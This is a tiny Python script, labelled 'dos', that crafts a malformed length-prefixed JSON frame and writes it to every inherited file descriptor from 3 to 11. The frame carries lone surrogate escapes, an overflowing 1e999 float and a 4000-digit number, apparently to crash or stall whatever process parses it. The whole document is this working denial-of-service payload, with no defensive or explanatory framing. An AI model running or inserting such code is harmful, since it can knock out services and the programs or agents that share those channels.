# dos: a whole frame whose texts are half of a surrogate pair, and whose numbers have no end
import os,time
body=b'{"nonce":"\\ud800","output":"\\udfff","fault":1e999,"proposed":'+b'9'*4000+b'}'
for fd in range(3,12):
    try: os.write(fd,len(body).to_bytes(4,'big')+body)
    except OSError: pass
time.sleep(60)
